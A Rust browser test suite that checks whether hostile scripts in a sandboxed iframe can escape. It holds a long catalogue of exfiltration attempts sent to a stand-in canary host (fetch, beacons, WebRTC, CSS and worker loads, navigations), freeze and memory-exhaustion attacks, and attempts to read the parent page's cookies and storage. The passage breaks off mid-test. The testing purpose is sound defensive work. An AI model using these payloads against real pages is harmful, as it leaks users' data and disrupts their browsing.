//! Scripts that want out of their frame, in a real Chromium. A canary listens, over TCP and UDP, under names of which each attack has one
//! of its own; and the browser's own log of what its network did says whether any of those names was so much as looked up.
//!
//! Every attack says through its console that it has begun before it tries, so that none passes because it never ran.

use std::{
    net::{TcpListener, UdpSocket},
    sync::{Arc, Mutex},
    thread,
    time::{Duration, Instant},
};

use neospace_tests::{Browser, Page, Person, Server, eventually};
use serde_json::{Value, json};

/// How soon a frozen frame must be gone.
const GONE_WITHIN: Duration = Duration::from_secs(4);
/// The longest that the page around may be held up, in milliseconds.
const HELD_UP_MOST: f64 = 100.0;
/// Names that lead to the canary.
const ZONE: &str = "canary.test";

/// Listens, and remembers who came.
struct Canary {
    port: u16,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Canary {
    fn start() -> Canary {
        let (tcp, udp) = loop {
            let tcp = TcpListener::bind("127.0.0.1:0").expect("a port is free");
            let port = tcp.local_addr().expect("it is bound").port();
            if let Ok(udp) = UdpSocket::bind(("127.0.0.1", port)) {
                break (tcp, udp);
            }
        };
        let port = tcp.local_addr().expect("it is bound").port();
        let heard = Arc::new(Mutex::new(Vec::new()));
        let (of_tcp, of_udp) = (heard.clone(), heard.clone());
        thread::spawn(move || {
            for stream in tcp.incoming().flatten() {
                let mut head = [0; 512];
                let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
                let length = std::io::Read::read(&mut &stream, &mut head).unwrap_or(0);
                let said = String::from_utf8_lossy(&head[..length]).into_owned();
                of_tcp.lock().expect("nobody panicked").push(format!("TCP {said}"));
            }
        });
        thread::spawn(move || {
            let mut packet = [0; 2048];
            while let Ok((length, from)) = udp.recv_from(&mut packet) {
                of_udp
                    .lock()
                    .expect("nobody panicked")
                    .push(format!("UDP {length} bytes from {from}"));
            }
        });
        Canary { port, heard }
    }

    fn heard(&self) -> Vec<String> {
        self.heard.lock().expect("nobody panicked").clone()
    }
}

/// A server with a script of bob's on a page, a browser whose names of the zone lead to the canary, and ana, who looks.
struct Stage {
    server: Server,
    browser: Browser,
    canary: Canary,
    log: tempfile::TempDir,
    href: String,
}

impl Stage {
    fn set(switches: &[&str]) -> Stage {
        let server = Server::start();
        let (_, bob) = (server.person("ana"), server.person("bob"));
        let canary = Canary::start();
        let log = tempfile::tempdir().expect("a folder");
        let rules = format!("--host-resolver-rules=MAP *.{ZONE} 127.0.0.1");
        let net = format!("--log-net-log={}", log.path().join("net.json").display());
        let browser = Browser::start_with(&[&[rules.as_str(), net.as_str()], switches].concat());
        let href = publish(&bob, "canvas", "console.log('a sketch like any other')");
        Stage {
            server,
            browser,
            canary,
            log,
            href,
        }
    }

    /// A page with the script on it, a text field, and eyes on the page's own thread.
    fn page(&self) -> Page {
        let page = self.browser.page();
        self.open(&page);
        page
    }

    fn open(&self, page: &Page) {
        page.goto(&self.server.url(&self.href))
            .wait_until("customElements.get('neo-frame')");
        page.eval(
            "localStorage.clear(); window.heard = []; window.held = [];
             for (const what of ['state', 'console', 'error', 'beat', 'param']) document.addEventListener('frame:' + what, ({ detail }) => heard.push({ what, at: performance.now(), ...detail }));
             new PerformanceObserver((list) => held.push(...list.getEntries().map(({ startTime, duration }) => ({ startTime, duration })))).observe({ type: 'longtask' });
             /* As a slider would, the page sends something to a frame that has a number to change. */
             document.addEventListener('frame:param', ({ target, detail }) => { if (detail.name === 'x') target.set('x', 2) });
             const field = document.createElement('textarea'); field.id = 'typed'; field.ariaLabel = 'typed'; document.querySelector('main').prepend(field);
             window.marked = location.href",
        );
    }

    /// Starts an attack and waits until it says that it has begun.
    fn start(&self, page: &Page, name: &str, attack: &str) {
        let source = self.source(name, attack);
        page.eval(&format!(
            "heard.length = 0; localStorage.clear(); document.querySelector('neo-frame').hold = true; document.querySelector('neo-frame').start({{ source: {} }})",
            json!(source)
        ));
        page.wait_until(&format!(
            "heard.some(one => one.what === 'console' && one.text === 'begun {name}')"
        ));
    }

    fn source(&self, name: &str, attack: &str) -> String {
        let host = format!("{name}.{ZONE}");
        let port = self.canary.port;
        format!(
            "const HOST = {host:?}, PORT = {port}, AT = HOST + ':' + PORT, HTTP = 'http://' + AT\n\
             const add = (tag, all = {{}}) => {{ const one = document.createElement(tag); for (const [name, value] of Object.entries(all)) one.setAttribute(name, value); document.body.append(one); return one }}\n\
             const steal = () => new Promise((done) => {{\n\
             const native = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data')\n\
             Object.defineProperty(MessageEvent.prototype, 'data', {{ get() {{ if (this.target instanceof MessagePort) done(this.target); return native.get.call(this) }} }})\n\
             neo.param('x', 1, {{ min: 0, max: 9 }}) }})\n\
             const tryTo = (run) => {{ try {{ const got = run(); got?.catch?.(() => {{}}) }} catch {{}} }}\n\
             console.log('begun {name}')\n\
             setTimeout(() => {{ {attack} }}, 250)"
        )
    }

    /// Ends the browser, so that its log is whole, and answers which names of the zone its network had to do with.
    fn names_in_log(self) -> Vec<String> {
        let Stage {
            browser, log, server, ..
        } = self;
        browser.close();
        drop(server);
        let text = std::fs::read_to_string(log.path().join("net.json")).expect("the browser wrote its log");
        // The first line holds the command line, which names the zone, too.
        let events = text.split_once("\"events\"").map_or("", |(_, events)| events);
        // After the events comes what the browser held at its end: reports that wait, and lead nowhere, quote policies in full.
        let events = events
            .split_once("\"polledData\":")
            .map_or(events, |(events, _)| events);
        let mut names: Vec<String> = events
            .match_indices(&format!(".{ZONE}"))
            .map(|(at, _)| {
                let begin = events[..at]
                    .rfind(|letter: char| !letter.is_ascii_alphanumeric() && letter != '-')
                    .map_or(0, |nth| nth + 1);
                events[begin..at].to_owned()
            })
            .collect();
        names.sort();
        names.dedup();
        names
    }
}

fn publish(person: &Person, mode: &str, source: &str) -> String {
    let made = person.post_json("/sandbox", &[("mode", mode), ("title", "hostile"), ("source", source)]);
    let href = made.expect(201).json()["href"].as_str().expect("a page").to_owned();
    person
        .post_json(&format!("{href}/versions"), &[("publish", "on")])
        .expect(200);
    href
}

fn state(page: &Page) -> Value {
    page.eval("document.querySelector('neo-frame').state")
}

/// What the page's own thread was held up by, at most, since it was opened; in milliseconds.
fn held_up(page: &Page) -> f64 {
    page.eval("Math.max(0, ...held.map(({ duration }) => duration))")
        .as_f64()
        .expect("a number")
}

/// Roads to the network. Each leads to a name of its own: `HTTP` is `http://NAME.canary.test:PORT`.
const ROADS: &[(&str, &str)] = &[
    ("fetch", "tryTo(() => fetch(HTTP))"),
    (
        "fetch-no-cors",
        "tryTo(() => fetch(HTTP, { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true }))",
    ),
    (
        "fetch-later",
        "tryTo(() => fetchLater('https://' + AT, { activateAfter: 0 }))",
    ),
    (
        "xhr",
        "tryTo(() => { const x = new XMLHttpRequest(); x.open('GET', HTTP); x.send() })",
    ),
    ("websocket", "tryTo(() => new WebSocket('ws://' + AT))"),
    (
        "websocket-stream",
        "tryTo(() => new WebSocketStream('ws://' + AT).opened)",
    ),
    ("event-source", "tryTo(() => new EventSource(HTTP))"),
    ("web-transport", "tryTo(() => new WebTransport('https://' + AT).ready)"),
    ("beacon", "tryTo(() => navigator.sendBeacon(HTTP, 'secret'))"),
    (
        "image",
        "new Image().src = HTTP + '/i.gif'; add('img', { srcset: HTTP + '/2.gif 2x', loading: 'eager' })",
    ),
    (
        "image-input",
        "add('input', { type: 'image', src: HTTP }); add('body', { background: HTTP }); add('video', { poster: HTTP })",
    ),
    (
        "svg-image",
        "document.body.insertAdjacentHTML('beforeend', `<svg><image href=\"${HTTP}/a\"/><use href=\"${HTTP}/b#c\"/><filter id=f><feImage href=\"${HTTP}/d\"/></filter><rect width=9 height=9 filter=\"url(#f)\" fill=\"url(${HTTP}/e#g)\"/></svg>`)",
    ),
    (
        "media",
        "add('video', { src: HTTP, autoplay: '' }); add('audio', { src: HTTP, preload: 'auto' }); add('video').append(Object.assign(document.createElement('track'), { src: HTTP, default: true }))",
    ),
    (
        "css-import",
        "add('style').textContent = `@import url(${HTTP}/i.css); @import '${HTTP}/j.css' layer(x)`",
    ),
    (
        "css-images",
        "add('style').textContent = `body { background: url(${HTTP}/b); cursor: url(${HTTP}/c), auto; mask: url(${HTTP}/m); list-style: url(${HTTP}/l); border-image: url(${HTTP}/o) 1; content: url(${HTTP}/n); background: image-set('${HTTP}/s' 1x); shape-outside: url(${HTTP}/p); filter: url(${HTTP}/f#x) } body::after { content: url(${HTTP}/a) }`",
    ),
    (
        "font-face",
        "add('style').textContent = `@font-face { font-family: x; src: url(${HTTP}/f.woff2) } body { font-family: x }`; document.body.append('x'); tryTo(() => new FontFace('y', `url(${HTTP}/g.woff2)`).load())",
    ),
    (
        "stylesheet",
        "add('link', { rel: 'stylesheet', href: HTTP + '/s.css' }); document.body.insertAdjacentHTML('beforeend', `<link rel=stylesheet href=${HTTP}/t.css>`)",
    ),
    (
        "script",
        "add('script', { src: HTTP + '/x.js' }); add('script', { src: HTTP + '/m.js', type: 'module' })",
    ),
    (
        "import",
        "tryTo(() => import(HTTP + '/m.js')); add('script', { type: 'module' }).textContent = `import '${HTTP}/n.js'`",
    ),
    (
        "import-map",
        "add('script', { type: 'importmap' }).textContent = JSON.stringify({ imports: { x: HTTP + '/x.js' } }); tryTo(() => import('x'))",
    ),
    (
        "module-preload",
        "add('link', { rel: 'modulepreload', href: HTTP + '/m.js' })",
    ),
    (
        "preload",
        "for (const as of ['script', 'style', 'image', 'font', 'fetch', 'track', 'audio', 'video', 'document', 'worker', 'object', 'embed', 'json']) add('link', { rel: 'preload', as, href: HTTP + '/' + as })",
    ),
    (
        "prefetch",
        "add('link', { rel: 'prefetch', href: HTTP + '/p' }); add('link', { rel: 'prerender', href: HTTP + '/q' }); add('link', { rel: 'next', href: HTTP + '/n' })",
    ),
    (
        "speculation-prefetch",
        "for (const eagerness of ['immediate', 'eager', 'moderate']) add('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [HTTP + '/s'], eagerness, referrer_policy: 'no-referrer' }] })",
    ),
    (
        "speculation-prerender",
        "add('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prerender: [{ source: 'list', urls: [HTTP + '/s'], eagerness: 'immediate' }], prefetch: [{ where: { href_matches: '/*' }, eagerness: 'immediate' }] }); add('a', { href: HTTP + '/t' }).textContent = 'x'",
    ),
    (
        "dns-prefetch",
        "add('link', { rel: 'dns-prefetch', href: '//' + HOST }); document.head.insertAdjacentHTML('beforeend', `<link rel=dns-prefetch href=http://x.${HOST}>`)",
    ),
    (
        "dns-prefetch-on",
        "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=x-dns-prefetch-control content=on>'); for (const scheme of ['http:', 'https:', '']) add('a', { href: scheme + '//' + HOST }).textContent = 'a link whose name may be looked up'",
    ),
    (
        "preconnect",
        "add('link', { rel: 'preconnect', href: HTTP }); add('link', { rel: 'preconnect', href: HTTP, crossorigin: '' }); document.head.insertAdjacentHTML('beforeend', `<link rel=preconnect href=${HTTP}>`)",
    ),
    (
        "preconnect-shadow",
        "add('div').attachShadow({ mode: 'closed' }).innerHTML = `<link rel=preconnect href=${HTTP}><link rel=dns-prefetch href=${HTTP}>`",
    ),
    (
        "other-links",
        "for (const rel of ['icon', 'apple-touch-icon', 'manifest', 'search', 'pingback', 'import', 'subresource', 'webbundle', 'compression-dictionary', 'expect', 'author', 'license', 'alternate stylesheet']) add('link', { rel, href: HTTP + '/' + rel.replace(' ', '') })",
    ),
    (
        "webrtc-stun",
        "tryTo(() => { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + PORT }, { urls: 'stun:' + AT }] }); p.createDataChannel('x'); return p.createOffer().then((o) => p.setLocalDescription(o)) })",
    ),
    (
        "webrtc-turn",
        "tryTo(() => { const p = new RTCPeerConnection({ iceServers: [{ urls: ['turn:' + AT + '?transport=tcp', 'turn:127.0.0.1:' + PORT + '?transport=tcp', 'turn:127.0.0.1:' + PORT], username: 'secret', credential: 'x' }], iceTransportPolicy: 'relay' }); p.createDataChannel('x'); return p.createOffer().then((o) => p.setLocalDescription(o)) })",
    ),
    (
        "webrtc-peer",
        "tryTo(async () => { const p = new RTCPeerConnection(), q = new RTCPeerConnection(); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await q.setRemoteDescription(p.localDescription); await q.setLocalDescription(await q.createAnswer()); await p.setRemoteDescription(q.localDescription); for (const [where, how] of [['127.0.0.1', 'udp'], [HOST, 'udp'], ['127.0.0.1', 'tcp']]) await p.addIceCandidate({ candidate: `candidate:1 1 ${how} 2113937151 ${where} ${PORT} typ host${how === 'tcp' ? ' tcptype passive' : ''}`, sdpMid: '0', sdpMLineIndex: 0 }) })",
    ),
    (
        "webrtc-nested",
        "const inner = `<script>for (const url of ['stun:127.0.0.1:${PORT}', 'stun:${AT}']) { const p = new RTCPeerConnection({ iceServers: [{ urls: url }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) }<\\/script>`; add('iframe', { srcdoc: inner }); add('iframe', { src: 'data:text/html,' + encodeURIComponent(inner) })",
    ),
    (
        "nested-frames",
        "add('iframe', { src: HTTP }); add('object', { data: HTTP }); add('embed', { src: HTTP }); add('iframe', { srcdoc: `<img src=${HTTP}/i><link rel=preconnect href=${HTTP}><script>fetch('${HTTP}')<\\/script>` }); add('iframe', { src: `javascript:fetch('${HTTP}')` }); add('fencedframe', { src: HTTP })",
    ),
    (
        "nested-blank",
        "const blank = add('iframe'); tryTo(() => blank.contentWindow.fetch(HTTP)); tryTo(() => { blank.contentDocument.write(`<img src=${HTTP}>`) })",
    ),
    (
        "blob-worker",
        "tryTo(() => new Worker(URL.createObjectURL(new Blob([`fetch('${HTTP}')`]))))",
    ),
    (
        "data-worker",
        "tryTo(() => new Worker(`data:text/javascript,fetch('${HTTP}')`)); tryTo(() => new SharedWorker(`data:text/javascript,fetch('${HTTP}')`)); tryTo(() => new Worker(`data:text/javascript,import '${HTTP}'`, { type: 'module' }))",
    ),
    (
        "library-worker",
        "tryTo(() => new Worker(document.querySelector('script[src]').src)); tryTo(() => new Worker(HTTP + '/w.js'))",
    ),
    (
        "worklets",
        "tryTo(() => new AudioContext().audioWorklet.addModule(HTTP + '/a.js')); tryTo(() => CSS.paintWorklet.addModule(HTTP + '/p.js')); tryTo(() => new AudioContext().audioWorklet.addModule(`data:text/javascript,import '${HTTP}'`))",
    ),
    (
        "service-worker",
        "tryTo(() => navigator.serviceWorker.register(HTTP + '/sw.js')); tryTo(() => navigator.serviceWorker.register('/sw.js'))",
    ),
    ("ping", "const a = add('a', { href: '#here', ping: HTTP }); a.click()"),
    (
        "attribution",
        "add('img', { attributionsrc: HTTP, src: 'data:,' }); add('script', { attributionsrc: HTTP, src: 'data:,' }); const a = add('a', { href: '#x', attributionsrc: HTTP }); a.click()",
    ),
    (
        "csp-report",
        "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=content-security-policy content=\"img-src 'none'; report-uri ${HTTP}; report-to x\"><meta http-equiv=reporting-endpoints content='x=\"${HTTP}\"'><meta http-equiv=nel content='{}'>`); new Image().src = 'data:,x'",
    ),
    (
        "base",
        "document.head.insertAdjacentHTML('beforeend', `<base href=${HTTP}/>`); add('img', { src: 'relative.gif' }); tryTo(() => fetch('relative'))",
    ),
    (
        "xslt",
        "tryTo(() => { const t = new DOMParser().parseFromString(`<?xml version='1.0'?><x:stylesheet version='1.0' xmlns:x='http://www.w3.org/1999/XSL/Transform'><x:import href='${HTTP}/x'/><x:template match='/'><x:copy-of select=\"document('${HTTP}/d')\"/></x:template></x:stylesheet>`, 'text/xml'); const p = new XSLTProcessor(); p.importStylesheet(t); p.transformToFragment(t, document) }); tryTo(() => new DOMParser().parseFromString(`<!DOCTYPE x SYSTEM '${HTTP}/e.dtd'><x/>`, 'text/xml'))",
    ),
    (
        "media-session",
        "tryTo(() => { navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: HTTP + '/a.png', sizes: '512x512', type: 'image/png' }] }); navigator.mediaSession.playbackState = 'playing' }); tryTo(() => { const c = new AudioContext(); const o = c.createOscillator(); o.connect(c.destination); o.start() })",
    ),
    (
        "payment",
        "tryTo(() => new PaymentRequest([{ supportedMethods: HTTP + '/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment())",
    ),
    (
        "credentials",
        "tryTo(() => navigator.credentials.get({ identity: { providers: [{ configURL: HTTP + '/c.json', clientId: 'x' }] } })); tryTo(() => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: HOST } }))",
    ),
    (
        "notification",
        "tryTo(() => new Notification('x', { icon: HTTP + '/i', image: HTTP + '/j' })); tryTo(() => navigator.getInstalledRelatedApps?.()); tryTo(() => navigator.share?.({ url: HTTP })); tryTo(() => navigator.registerProtocolHandler('web+x', HTTP + '/%s'))",
    ),
    (
        "presentation",
        "tryTo(() => new PresentationRequest(HTTP).start()); tryTo(() => new PresentationRequest(HTTP).getAvailability()); tryTo(() => document.createElement('video').remote?.prompt())",
    ),
    (
        "shared-storage",
        "tryTo(() => sharedStorage.worklet.addModule(HTTP + '/s.js')); tryTo(() => navigator.joinAdInterestGroup({ owner: 'https://' + HOST, name: 'x', biddingLogicURL: 'https://' + AT }, 9)); tryTo(() => navigator.runAdAuction({ seller: 'https://' + HOST, decisionLogicURL: 'https://' + AT })); tryTo(() => document.browsingTopics())",
    ),
    (
        "web-bundle",
        "add('script', { type: 'webbundle' }).textContent = JSON.stringify({ source: HTTP + '/b.wbn', resources: [HTTP + '/r'] }); add('link', { rel: 'webbundle', href: HTTP + '/c.wbn' })",
    ),
    (
        "window-open",
        "tryTo(() => open(HTTP)); tryTo(() => open(HTTP, '_top')); tryTo(() => open('about:blank').location = HTTP); const a = add('a', { href: HTTP, target: '_blank', rel: 'opener' }); a.click()",
    ),
    (
        "top-navigation",
        "tryTo(() => { top.location = HTTP }); tryTo(() => { parent.location.href = HTTP }); tryTo(() => top.location.replace(HTTP)); tryTo(() => top.navigation?.navigate(HTTP)); const a = add('a', { href: HTTP, target: '_top' }); a.click(); const b = add('a', { href: HTTP, target: '_parent' }); b.click()",
    ),
    (
        "form",
        "const f = add('form', { action: HTTP, method: 'post' }); tryTo(() => f.submit()); const g = add('form', { action: HTTP, target: '_top' }); tryTo(() => g.requestSubmit()); const h = add('form', { method: 'dialog' }); h.append(Object.assign(document.createElement('button'), { formAction: HTTP })); h.querySelector('button').click()",
    ),
    (
        "download",
        "add('a', { href: HTTP + '/f', download: 'f' }).click(); add('a', { href: 'data:text/plain,x', download: 'f.txt' }).click()",
    ),
    ("self-location", "location = HTTP + '/?secret'"),
    ("self-replace", "location.replace('https://' + AT + '/?secret')"),
    ("self-navigation-api", "tryTo(() => navigation.navigate(HTTP).finished)"),
    ("self-link", "add('a', { href: HTTP }).click()"),
    (
        "self-refresh",
        "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${HTTP}'>`)",
    ),
    (
        "self-data",
        "location = `data:text/html,<script>fetch('${HTTP}');location='${HTTP}'<\\/script><img src=${HTTP}>`",
    ),
    (
        "self-blob",
        "location = URL.createObjectURL(new Blob([`<script>fetch('${HTTP}');location='${HTTP}'<\\/script><img src=${HTTP}>`], { type: 'text/html' }))",
    ),
    (
        "self-javascript",
        "location = `javascript:fetch('${HTTP}'),'<img src=${HTTP}><link rel=preconnect href=${HTTP}>'`",
    ),
    (
        "self-write",
        "document.open(); document.write(`<html><head><link rel=preconnect href=${HTTP}></head><img src=${HTTP}><script>fetch('${HTTP}')<\\/script>`); document.close()",
    ),
    (
        "self-host",
        "location = location.origin === 'null' ? document.URL.replace(/frame.*/, 'wall/ana?leak=' + HOST) : '/'",
    ),
];

/// Attacks that the page around has to answer by taking the frame away, and what it says then.
const ENDED: &[(&str, &str, &str)] = &[
    (
        "flood-port",
        "steal().then((port) => { for (let i = 0; i < 100000; i++) port.postMessage(JSON.stringify({ type: 'ready' })) })",
        "too much at once",
    ),
    (
        "large-port",
        "steal().then((port) => port.postMessage(JSON.stringify({ type: 'console', lines: [], more: 'x'.repeat(5000) })))",
        "too long",
    ),
    (
        "graph-port",
        "const much = []; for (let i = 0; i < 500000; i++) much.push({ i, in: { i } }); steal().then((port) => port.postMessage(much))",
        "too long, or something that can't be said",
    ),
    (
        "buffer-port",
        "const much = new ArrayBuffer(300e6); steal().then((port) => port.postMessage(much, [much]))",
        "too long, or something that can't be said",
    ),
    (
        "text-port",
        "const much = 'x'.repeat(400e6); steal().then((port) => port.postMessage(much))",
        "too long, or something that can't be said",
    ),
    (
        "shape-port",
        "Object.prototype.toJSON = function () { return Object.assign(Object.create(null), { type: 'error', message: 1, line: -1, column: 'x' }) }",
        "can't be understood",
    ),
    (
        "unknown-port",
        "Object.prototype.toJSON = function () { return Object.assign(Object.create(null), { type: 'navigate', to: '/logout' }) }",
        "can't be understood",
    ),
    (
        "params-port",
        "steal().then((port) => { for (let i = 0; i < 20; i++) port.postMessage(JSON.stringify({ type: 'param', name: 'n' + i, value: 1, min: 0, max: 1, step: 0 })) })",
        "can't be understood",
    ),
    (
        "flood-window",
        "for (let i = 0; i < 200000; i++) parent.postMessage(i, '*')",
        "too much at once",
    ),
    (
        "graph-window",
        "const much = []; for (let i = 0; i < 20000; i++) much.push({ i, in: { i } }); for (let i = 0; i < 60; i++) parent.postMessage(much, '*')",
        "too much at once",
    ),
    ("leaves", "location.reload()", "somewhere else"),
    (
        "leaves-for-a-frame",
        "location = document.URL.replace(/frame.*/, 'frame/example/flock')",
        "somewhere else",
    ),
    (
        "history-flood",
        "setInterval(() => { for (let i = 0; i < 9; i++) location.hash = 'h' + Math.random() }, 100)",
        "way back",
    ),
];

/// Attacks that freeze their frame.
const FROZEN: &[(&str, &str)] = &[
    (
        "endless-loop-unguarded",
        "const s = document.createElement('script'); s.textContent = 'while (true);'; document.body.append(s)",
    ),
    (
        "endless-recursion-of-promises",
        "const again = () => Promise.resolve().then(again); again()",
    ),
    ("endless-expression", "/^(a+)+$/.test('a'.repeat(60) + 'b')"),
    (
        "endless-frames",
        "const turn = () => { const s = document.createElement('script'); s.textContent = 'for (const end = performance.now() + 4000; performance.now() < end;);'; document.body.append(s); requestAnimationFrame(turn) }; turn()",
    ),
    (
        "guard-undone",
        "Object.defineProperty(performance, 'now', { value: () => 0 }); Date.now = () => 0; neoLoop = () => {}; const s = document.createElement('script'); s.textContent = 'for (;;);'; document.body.append(s)",
    ),
    (
        "endless-getter",
        "const odd = { get [Symbol.toPrimitive]() { const s = document.createElement('script'); s.textContent = 'do ; while (true)'; document.body.append(s) } }; `${odd}`",
    ),
    (
        "blocking-storm",
        "const s = document.createElement('script'); s.textContent = 'let all = []; for (;;) { all.push(document.createElement(\"div\")); document.body.append(all.at(-1)) }'; document.body.append(s)",
    ),
    (
        "forged-heartbeat",
        "steal().then((port) => { const inner = add('iframe', { srcdoc: '<script>onmessage = ({ ports }) => setInterval(() => ports[0].postMessage(JSON.stringify({ type: \\'beat\\', frames: 60 })), 400)<\\/script>' }); setTimeout(() => { inner.contentWindow.postMessage('take', '*', [port]); const s = document.createElement('script'); s.textContent = 'while (true);'; document.body.append(s) }, 700) })",
    ),
];

/// What must be denied without anything being reached: each says `denied` for every attempt that got nowhere, and else what it got.
const DENIED: &[(&str, &str)] = &[
    ("parent-document", "top.document.cookie"),
    ("parent-field", "parent.document.querySelector('textarea').value"),
    (
        "parent-frames",
        "parent.frames[0] === window ? parent.frames[1].document : parent.frames[0].document",
    ),
    ("parent-storage", "parent.localStorage.length"),
    ("own-cookie", "document.cookie = 'a=b'; document.cookie"),
    ("own-local-storage", "localStorage.setItem('a', 'b')"),
    ("own-session-storage", "sessionStorage.length"),
    ("own-databases", "indexedDB.open('a')"),
    ("own-caches", "caches.keys"),
    ("top-name", "top.name = 'x'; top.name"),
    ("evaluate", "eval('1')"),
    ("function", "new Function('return 1')()"),
    (
        "dialogs",
        "if (prompt('a') !== null || confirm('b')) 'asked'; else throw 0",
    ),
    ("popup", "const w = open('about:blank'); if (!w) throw 0; 'opened'"),
    ("fullscreen", "if (!document.fullscreenEnabled) throw 0; 'may'"),
];

#[test]
fn no_road_leads_out_of_a_frame() {
    let stage = Stage::set(&[]);
    let page = stage.page();
    // The canary hears, and the log tells, when there is something to hear.
    let control = stage.browser.page();
    control.allow("");
    // It hears, and never answers: that this leads to no page is as it should be.
    let address = format!("http://control.{ZONE}:{}/", stage.canary.port);
    control.call("Page.navigate", json!({ "url": address }));
    eventually("the canary hears the control", || {
        stage
            .canary
            .heard()
            .iter()
            .any(|heard| heard.contains("GET /"))
            .then_some(())
    });
    control.goto("about:blank");
    let before = stage.canary.heard().len();
    page.allow("");
    page.focus("#typed").type_text("the text around ");
    let mut wrong = Vec::new();
    for (name, attack) in ROADS {
        stage.start(&page, name, attack);
        // What goes out goes out within a moment; those that take longer are heard at the end.
        page.wait_until(&format!(
            "performance.now() - heard.find(one => one.text === 'begun {name}').at > 900"
        ));
        let heard = stage.canary.heard();
        if heard.len() > before {
            wrong.push(format!("{name}: {:?}", &heard[before..]));
        }
        if page.eval("location.href === window.marked") != true {
            wrong.push(format!("{name}: it led the page around elsewhere"));
            stage.open(&page);
        }
        if page
            .eval("document.querySelectorAll('neo-frame iframe').length")
            .as_i64()
            > Some(1)
        {
            wrong.push(format!("{name}: there are more frames than one"));
        }
        page.eval("document.querySelector('neo-frame').stop()");
    }
    assert_eq!(page.value("#typed"), "the text around ");
    assert!(
        held_up(&page) <= HELD_UP_MOST,
        "the page was held up for {} ms",
        held_up(&page)
    );
    assert_eq!(page.dialogs(), Vec::<String>::new());
    drop((page, control));
    let canary = stage.canary.heard.clone();
    let names = stage.names_in_log();
    assert!(wrong.is_empty(), "{wrong:#?}");
    let heard = canary.lock().expect("nobody panicked").clone();
    assert_eq!(&heard[before..], &[] as &[String], "the canary heard something late");
    assert_eq!(
        names,
        ["control"],
        "the browser looked names up, or connected, for these"
    );
}

#[test]
fn a_frame_that_does_not_keep_to_the_protocol_is_taken_away() {
    let stage = Stage::set(&[]);
    let page = stage.page();
    page.allow("");
    for (name, attack, says) in ENDED {
        stage.open(&page);
        page.focus("#typed").type_text("kept ");
        let from = page.eval("performance.now()").as_f64().expect("a number");
        stage.start(&page, name, attack);
        page.wait_until("document.querySelector('neo-frame').state === 'ended'");
        let why = page.text("neo-frame [data-why]");
        assert!(why.contains(says), "{name}: {why}");
        assert!(!page.has("neo-frame iframe"), "{name}: it is still there");
        // Typing goes on where it was.
        assert_eq!(
            page.eval("document.activeElement.id"),
            "typed",
            "{name}: the focus is elsewhere"
        );
        page.type_text("and on");
        assert_eq!(page.value("#typed"), "kept and on", "{name}");
        let held = page.eval(&format!(
            "Math.max(0, ...held.filter(({{ startTime }}) => startTime > {from}).map(({{ duration }}) => duration))"
        ));
        assert!(
            held.as_f64() <= Some(HELD_UP_MOST),
            "{name}: the page was held up for {held} ms"
        );
        assert_eq!(page.eval("location.href === window.marked"), true, "{name}");
    }
}

#[test]
fn a_frozen_frame_is_gone_within_four_seconds_and_the_page_around_never_stops() {
    let stage = Stage::set(&[]);
    let page = stage.page();
    page.allow("");
    for (name, attack) in FROZEN {
        stage.open(&page);
        page.focus("#typed");
        let from = page.eval("performance.now()").as_f64().expect("a number");
        stage.start(&page, name, attack);
        let begun = Instant::now();
        let mut typed = String::new();
        // Somebody types all the while, and sees every letter.
        while state(&page) != "ended" {
            page.type_text("x");
            typed.push('x');
            assert_eq!(page.value("#typed"), typed, "{name}");
            assert!(
                begun.elapsed() < GONE_WITHIN + Duration::from_secs(4),
                "{name}: it is still there"
            );
            page.eval("new Promise((done) => setTimeout(done, 100))");
        }
        let (froze, ended) = (
            page.eval("heard.findLast(one => one.what === 'beat' || one.what === 'console').at")
                .as_f64()
                .expect("a number"),
            page.eval("heard.find(one => one.what === 'state' && one.state === 'ended').at")
                .as_f64()
                .expect("a number"),
        );
        assert!(
            ended - froze <= GONE_WITHIN.as_millis() as f64,
            "{name}: gone {} ms after its last word",
            ended - froze
        );
        assert!(page.text("neo-frame [data-why]").contains("froze"), "{name}");
        assert!(!page.has("neo-frame iframe"), "{name}");
        let held = page.eval(&format!(
            "Math.max(0, ...held.filter(({{ startTime }}) => startTime > {from}).map(({{ duration }}) => duration))"
        ));
        assert!(
            held.as_f64() <= Some(HELD_UP_MOST),
            "{name}: the page was held up for {held} ms"
        );
        // And it is remembered.
        page.click("neo-frame [data-run]")
            .wait_for("neo-frame [data-why] \"did not end well\"");
    }
}

#[test]
fn a_frame_that_eats_memory_dies_alone() {
    let stage = Stage::set(&["--js-flags=--max-old-space-size=96"]);
    let page = stage.page();
    page.allow("");
    page.focus("#typed").type_text("still here");
    for (name, attack) in [
        (
            "hog-objects",
            "const all = []; const s = document.createElement('script'); globalThis.all = all; s.textContent = 'for (;;) all.push(new Array(1e5).fill(0).map((_, i) => ({ i })))'; document.body.append(s)",
        ),
        (
            "hog-text",
            "let text = 'x'; const all = []; setInterval(() => { for (let i = 0; i < 200; i++) all.push((text += 'y').repeat(1e5).split('')) }, 0)",
        ),
    ] {
        stage.start(&page, name, attack);
        page.wait_until("document.querySelector('neo-frame').state === 'ended'");
        assert!(!page.has("neo-frame iframe"), "{name}");
        assert_eq!(page.value("#typed"), "still here", "{name}");
        assert!(
            held_up(&page) <= HELD_UP_MOST,
            "{name}: the page was held up for {} ms",
            held_up(&page)
        );
    }
}

#[test]
fn a_frame_has_nothing_that_belongs_to_anybody() {
    let stage = Stage::set(&[]);
    let page = stage.browser.page_of(&stage.server.guest());
    stage.open(&page);
    page.allow("");
    page.eval("document.querySelector('#typed').value = 'a secret'; localStorage.setItem('secret', '1'); document.cookie = 'secret=1'");
    for (name, attempt) in DENIED {
